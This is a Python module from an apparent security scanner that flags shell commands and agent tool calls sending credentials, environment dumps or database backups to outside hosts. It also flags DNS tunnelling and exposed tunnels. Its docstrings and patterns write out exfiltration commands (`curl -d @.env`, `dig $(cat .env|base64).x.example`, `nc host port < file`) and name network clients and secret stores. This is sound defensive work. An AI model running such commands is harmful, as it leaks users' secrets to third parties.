"""Exfiltration as a flow: a sensitive source (credential files, an env dump) reaching an outbound sink to an outside host.

A command is tokenised (shell_parse) into simple commands; each network client is asked two
questions: what does it send (`curl -d @.env`, `-F f=@id_rsa`, `-T file`, `wget --post-file=`,
`scp/rsync SRC user@host:`, `nc host port < file`, stdin fed by `env | …` or `cat key | …`),
and where (the URL or `host:` it names). A sensitive source to an outside host is CRITICAL; the
same to a private address or an operator-trusted domain is HIGH (a human looks). Also: DNS
lookups whose name is built by a command substitution (`dig $(cat .env|base64).x.example`),
a `git push` to a remote given as a URL or added in the same command line, and a tunnel that
exposes SSH or a whole file system to the internet. Structured calls: an attachment or upload
path naming a credential file, sent by a mail/upload tool to an outside destination.
Ordinary transfers (`scp build.tgz deploy@staging:`, `curl -F file=@report.pdf …`,
`git push origin main`) name no sensitive source and stay quiet.
"""

from __future__ import annotations

from aegis_mcp.engine import regex
from aegis_mcp.engine.detectors import shell_parse
from aegis_mcp.engine.detectors.base import R_IDENT, R_PATH, R_SHELL, R_TEXT, R_UNKNOWN, ScanContext
from aegis_mcp.engine.detectors.exfil_sink import _trusted, is_trusted, sink_of
from aegis_mcp.engine.detectors.exfil_ssrf import host_of, internal_kind
from aegis_mcp.engine.detectors.path_targets import classify
from aegis_mcp.engine.model import RiskLevel, Signal

# Cheap gate: a fragment naming none of these programs has no outbound flow to judge.
_CLIENTS = ("curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp", "ftp", "git",
            "dig", "nslookup", "host", "drill", "ngrok", "cloudflared", "http", "https", "aws", "gsutil",
            "rclone", "azcopy", "lt", "bore", "ssh")
_CLIENT_SET = frozenset(_CLIENTS)
# The cheap gate (one RE2 pass): a network client named as a command word, and something that
# feeds it a file or stdin (`@`, `<`, a pipe, --post-file, -T, a copy's `host:` target, a push).
# Shell parsing (shlex) runs only past it -- most commands name no client at all.
CLIENT_WORD_PATTERN = (
    r"(?:^|[\s;&|(`]|\$\()(?:curl|wget|nc|ncat|netcat|socat|telnet|scp|rsync|sftp|ftp|git|ngrok|cloudflared|bore|lt|"
    r"aws|gsutil|rclone|azcopy|http|https|ssh)(?:\s|$)")
_CLIENT_WORD = regex.compile(CLIENT_WORD_PATTERN)
_FEEDS = ("@", "<", "|", "push", "post-file", "body-file", "-T", "upload", ":", "tcp")
# a lookup (or ping) whose name is a command substitution followed by a domain
_DNS_SUBST = regex.compile(
    r"(?i)(?:^|[\s;&|(])(?:dig|nslookup|host|drill|ping|getent\s+hosts)\s[^\n;&]{0,40}?(?:\$\(([^()\n]{1,300})\)|`([^`\n]{1,300})`)[\w.$(){}-]{0,100}\.[a-z0-9-]{2,63}\.[a-z]{2,}")
_ENV_DUMPERS = frozenset({"env", "printenv", "set", "declare", "export"})
_DUMP_EXT = (".sql", ".sql.gz", ".dump", ".bak", ".sqlite", ".sqlite3", ".db", ".mdb", ".bson", ".rdb", ".pgdump")
_DUMP_DIRS = ("backup", "backups", "dump", "dumps", "db_backups")
_READERS = frozenset({"cat", "tac", "head", "tail", "base64", "xxd", "gzip", "tar", "zip", "openssl", "gpg", "od", "less", "more", "strings"})
# Directories whose whole content is credentials (rsync/scp/tar of the directory itself).
_SECRET_DIRS = (".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure", ".config/gcloud", ".password-store")
_SHELL_WORDS = frozenset({"shell", "bash", "sh", "exec", "execute", "command", "terminal", "run", "cmd", "powershell", "ssh", "zsh"})
_ATTACH_NAMES = ("attach", "file", "path", "document", "upload", "source", "src")
_PUSH_SAFE_REMOTES = frozenset({"origin", "upstream", "heroku", "production", "staging", "main", "master"})


def _sensitive(arg: str) -> str:
    """The credential-store rule a file argument names ('' when it is ordinary data)."""
    p = arg.strip().strip("'\"").lstrip("@<").lower().replace("\\", "/")
    if not p or p == "-" or p.endswith(".pub"):
        return ""
    if "$(" in p or "`" in p:
        return ""
    hit = classify(p)
    if hit is not None and hit[1] not in ("system_dir", "web_root", "server_install", "server_logs", "shell_profile"):
        return hit[1]
    trimmed = p.rstrip("/").rstrip("*").rstrip("/")
    # (endswith over the tuple, in C, is what each of the three tests needs)
    if trimmed.endswith(_SECRET_DIRS) and any(
            trimmed == d or trimmed.endswith("/" + d) or trimmed.endswith("~" + d) for d in _SECRET_DIRS):
        return "credential_directory"
    if "/proc/self/environ" in p:
        return "process_environ"
    return ""


def _dump_file(arg: str) -> bool:
    """A database dump or backup file (`/var/backups/users.sql`, `prod.dump`, `app.sqlite3`)."""
    p = arg.strip().strip("'\"").lower().replace("\\", "/")
    if not p or "$" in p:
        return False
    segs = p.split("/")
    return p.endswith(_DUMP_EXT) or (any(d in segs[:-1] for d in _DUMP_DIRS) and "." in segs[-1])


def _dest_host(word: str) -> str:
    """The host a client word points at: a URL, `user@host:path` (scp/rsync/git), or ''."""
    w = word.strip("'\"")
    if "://" in w[:12]:
        return host_of(w)
    if ":" in w and "@" in w.split(":", 1)[0]:
        return w.split(":", 1)[0].rsplit("@", 1)[-1].lower()
    return ""


def _outside(host: str, trusted: tuple[str, ...]) -> bool | None:
    """True: an outside host; False: private or trusted; None: no host."""
    if not host:
        return None
    if internal_kind(host) is not None or is_trusted(host, trusted) or "." not in host and ":" not in host:
        return False  # a bare name (`web1`) resolves inside the network
    return True


def _sent_files(name: str, args: list[str]) -> list[str]:
    """Local files a client reads and sends, from its own arguments."""
    out: list[str] = []
    prev = ""
    for a in args:
        low = a.lower()
        if name == "curl":
            if prev in ("-d", "--data", "--data-binary", "--data-urlencode", "--data-raw", "--json") and a.startswith("@"):
                out.append(a[1:])
            elif prev in ("-F", "--form") and ("=@" in a or "=<" in a):
                out.append(a.split("=", 1)[1][1:].split(";", 1)[0])
            elif prev in ("-T", "--upload-file"):
                out.append(a)
            elif low.startswith(("--data-binary=@", "--data=@", "--upload-file=")):
                out.append(a.split("=", 1)[1].lstrip("@"))
        elif name == "wget" and low.startswith(("--post-file=", "--body-file=")):
            out.append(a.split("=", 1)[1])
        elif name == "wget" and prev in ("--post-file", "--body-file"):
            out.append(a)
        elif name in ("scp", "rsync", "sftp") and not a.startswith("-") and not _dest_host(a):
            out.append(a)
        elif name in ("aws", "gsutil", "rclone", "azcopy") and not a.startswith("-") and "://" not in a and ":" not in a:
            out.append(a)
        prev = a
    return out


def _stdin_fed(name: str, args: list[str]) -> bool:
    """Does the client send what arrives on stdin (`curl --data-binary @-`, `nc host port`)?"""
    if name in ("nc", "ncat", "netcat", "socat", "telnet"):
        return True
    if name == "curl":
        return any(a in ("@-", "-") or a.endswith("=@-") for a in args)
    return name == "wget" and any(a in ("--post-file=/dev/stdin", "--post-file=-") for a in args)


_KEYWORDS = frozenset({"do", "then", "else", "elif", "if", "while", "until", "{", "!", "time"})


def _name_args(words: list[str]) -> tuple[str, list[str]]:
    """The program and its arguments, past shell keywords (`do curl …`) and wrappers (`sudo`, `env X=1`)."""
    i = 0
    while i < len(words) - 1 and words[i] in _KEYWORDS:
        i += 1
    name, args, _ = shell_parse.command_name(words[i:])
    return name, args


def _git_subcommand(args: list[str]) -> list[str]:
    """git's arguments from its subcommand on: global options (`-C <dir>`, `-c k=v`, `--git-dir=x`) skipped."""
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
    return args[i:]


def _source_of(cmd: shell_parse.Simple) -> str:
    """What a pipeline stage produces: 'environment', a credential rule, or ''."""
    name, args = _name_args(cmd.words)
    if not name and cmd.words and cmd.words[-1].rsplit("/", 1)[-1] in ("env", "printenv"):
        return "environment variables"  # a bare `env` (command_name reads it as a wrapper)
    if name in _ENV_DUMPERS and not [a for a in args if not a.startswith("-")]:
        return "environment variables"
    if name == "history" or (not name and cmd.words[:1] == ["history"]):
        return "shell history"
    if name in _READERS:
        for a in args:
            rule = _sensitive(a)
            if rule:
                return rule
    for op, target in cmd.redirs:
        if op.startswith("<") and _sensitive(target):
            return _sensitive(target)
    return ""


def _flag(out: list[Signal], rule: str, detail: str, sev: RiskLevel, path: str) -> None:
    out.append(Signal("data_exfiltration", rule, detail, sev, path))


def _judge_command(text: str, trusted: tuple[str, ...], path: str, out: list[Signal]) -> None:
    cmds = shell_parse.split(text[:16384])
    # a credential store named anywhere in the line (`for f in ~/.ssh/*; do curl -F "f=@$f" …`)
    mentioned = next((r for c in cmds[:64] for r in map(_sensitive, c.words) if r), "")
    added_remotes: set[str] = set()
    fed = ""  # what the previous pipeline stages produce
    for cmd in cmds[:64]:
        if cmd.joined_by != "|":
            fed = ""
        name, args = _name_args(cmd.words)
        src = _source_of(cmd)
        hosts = [h for h in (_dest_host(a) for a in args) if h]
        if name in ("nc", "ncat", "netcat", "telnet", "socat") and not hosts:
            plain = [a for a in args if not a.startswith("-")]
            hosts = [plain[0].lower()] if plain else []
        where = next((h for h in hosts if _outside(h, trusted)), "") or (hosts[0] if hosts else "")
        outside = _outside(where, trusted)
        if name in _CLIENT_SET and outside is not None:
            files = _sent_files(name, args)
            sources = [r for r in (_sensitive(f) for f in files) if r]
            if mentioned and any(f.startswith("$") or f.startswith("{}") or f.startswith('"$') for f in files):
                sources.append(mentioned)  # the file is a loop variable over a credential store
            for op, target in cmd.redirs:
                if op.startswith("<") and _sensitive(target):
                    sources.append(_sensitive(target))
            if fed and _stdin_fed(name, args):
                sources.append(fed)
            if sources:
                sev = RiskLevel.CRITICAL if outside else RiskLevel.HIGH
                _flag(out, "secrets_sent_out", f"{sources[0]} sent by {name} to {where}", sev, path)
            elif outside and any(_dump_file(f) for f in files):
                _flag(out, "dump_sent_out", f"a database dump or backup sent by {name} to {where}", RiskLevel.HIGH, path)
        if name == "git":
            args = _git_subcommand(args)  # past `-C <dir>`, `-c k=v`, `--git-dir=...`
        if name == "git" and args[:2] and args[0] == "remote" and args[1] == "add" and len(args) >= 4:
            added_remotes.add(args[2])
        if name == "git" and args[:1] == ["push"]:
            targets = [a for a in args[1:] if not a.startswith("-")]
            remote = targets[0] if targets else ""
            if remote and (remote in added_remotes or ("://" in remote or "@" in remote) and remote not in _PUSH_SAFE_REMOTES):
                h = _dest_host(remote) if "://" in remote or "@" in remote else ""
                if not h or _outside(h, trusted) is not False:
                    _flag(out, "git_push_foreign_remote", f"git push to a remote defined on the spot ({remote[:80]})",
                          RiskLevel.HIGH, path)
        if name in ("ngrok", "bore", "lt", "cloudflared") and args:
            plain = [a for a in args if not a.startswith("-")]
            if "tcp" in plain and any(p in ("22", "3389", "5432", "3306", "6379", "27017") for p in plain):
                _flag(out, "tunnel_exposes_service", "a public tunnel to a login or database port", RiskLevel.MEDIUM, path)
        if src:
            fed = src if not fed or src == "environment variables" else fed
        elif cmd.joined_by != "|" and name not in _READERS:
            fed = ""


def _dns_smuggle(text: str, path: str, out: list[Signal]) -> None:
    """`dig $(cat .env | base64).x.example`: the looked-up name carries a command's output."""
    m = _DNS_SUBST.search(text[:16384])
    if m is None:
        return
    inner = m.group(1) or m.group(2) or ""
    words = inner.replace("|", " ").replace(";", " ").split()
    leaky = any(_sensitive(w) for w in words) or any(w in _ENV_DUMPERS or w in ("whoami", "id", "hostname") for w in words)
    _flag(out, "dns_exfiltration", "a DNS name built from a command's output (data carried in the lookup)",
          RiskLevel.CRITICAL if leaky else RiskLevel.HIGH, path)


def shell_flows(ctx: ScanContext) -> list[Signal]:
    shellish = bool(ctx.tool_words & _SHELL_WORDS)
    out: list[Signal] = []
    trusted: tuple[str, ...] | None = None
    for f in ctx.fragments:
        if f.is_key or not (f.role is R_SHELL or (shellish and f.role in (R_TEXT, R_UNKNOWN, R_IDENT))):
            continue
        text = f.raw
        head = text[:16384]
        if not any(c in head for c in _FEEDS) or not _CLIENT_WORD.test(head):
            if "$(" in text or "`" in text:
                _dns_smuggle(text, f.path, out)
            continue  # the cheap check: no network client named, or nothing fed to it
        if trusted is None:
            trusted = _trusted(ctx)
        before = len(out)
        _judge_command(text, trusted, f.path, out)
        if "$(" in text or "`" in text:
            _dns_smuggle(text, f.path, out)
        if len(out) - before > 4:
            del out[before + 4:]
    return out


def sensitive_attachments(ctx: ScanContext) -> list[Signal]:
    """A mail/upload tool sending a file whose path names a credential store."""
    sink = sink_of(ctx)
    if not sink.outgoing or not sink.external:
        return []
    out: list[Signal] = []
    for f in ctx.fragments:
        if f.is_key or len(f.raw) > 1024 or "\n" in f.raw:
            continue
        depth = f.path.count("/")
        top = f.path.split("/")[1].lower() if depth >= 1 else ""
        # a top-level path argument, or an item of an attachments-like list; a "path" deep
        # inside the records being sent is data, judged by what it holds
        if depth > 3 or not (any(w in top for w in _ATTACH_NAMES) or (f.role is R_PATH and depth == 1)):
            continue
        rule = _sensitive(f.raw)
        if rule:
            _flag(out, "sensitive_file_sent", f"{rule} sent as a file ({sink.describe()})", RiskLevel.CRITICAL, f.path)
        elif _dump_file(f.raw):
            _flag(out, "dump_sent_out", f"a database dump or backup sent as a file ({sink.describe()})", RiskLevel.HIGH, f.path)
    return out


# --- a local dev server, in context ------------------------------------------------------------
# Arguments a service fetches on its own (a callback, an avatar, an import source): a loopback
# URL there makes the *server* call itself -- SSRF, whatever the port.
_SERVER_FETCHED = frozenset({"callback", "callback_url", "webhook", "webhook_url", "image_url", "avatar_url", "icon_url",
                             "redirect", "redirect_uri", "redirect_url", "return_url", "next", "source", "source_url",
                             "import_url", "feed_url", "remote_url", "proxy", "proxy_url", "notify_url", "ping_url"})
_BROWSE_WORDS = frozenset({"fetch", "get", "http", "https", "request", "curl", "wget", "browse", "browser", "navigate",
                           "open", "url", "visit", "web", "page", "load", "playwright", "puppeteer", "screenshot", "scrape"})
_LEAKY_QUERY = ("token=", "key=", "secret=", "password=", "passwd=", "pwd=", "cmd=", "exec=", "command=", "file=",
                "path=", "url=", "dest=", "cookie=", "session=", "auth=")


def dev_server_cue(ctx: ScanContext, name: str, url: str) -> str:
    """Why a plainly written `http://localhost:<dev port>/…` is *not* just a developer's own app
    here ('' when it is): the tool is no fetch/browse tool the user drives, the argument is one a
    server fetches by itself, the query carries credentials or a command, or the same call carries
    secrets or personal data out to it."""
    if name.lower() in _SERVER_FETCHED:
        return f"'{name}' is fetched by the service itself"
    if not ctx.tool_words & _BROWSE_WORDS:
        return "a local address handed to a tool that is not a browser or an HTTP client"
    query = url.partition("?")[2].lower()
    if query and any(q in query for q in _LEAKY_QUERY):
        return "the query string carries credentials, a command or a path"
    from aegis_mcp.engine.detectors.secrets_scan import scan_context  # (imported late: a heavy module)

    for s in scan_context(ctx):
        if s.fragment.name == name:
            continue
        if any((f.family == "secrets" and f.confidence == "high") or (f.family == "pii" and f.confidence == "strong")
               for f in s.findings):
            return "the call sends secrets or personal data to it"
    return ""
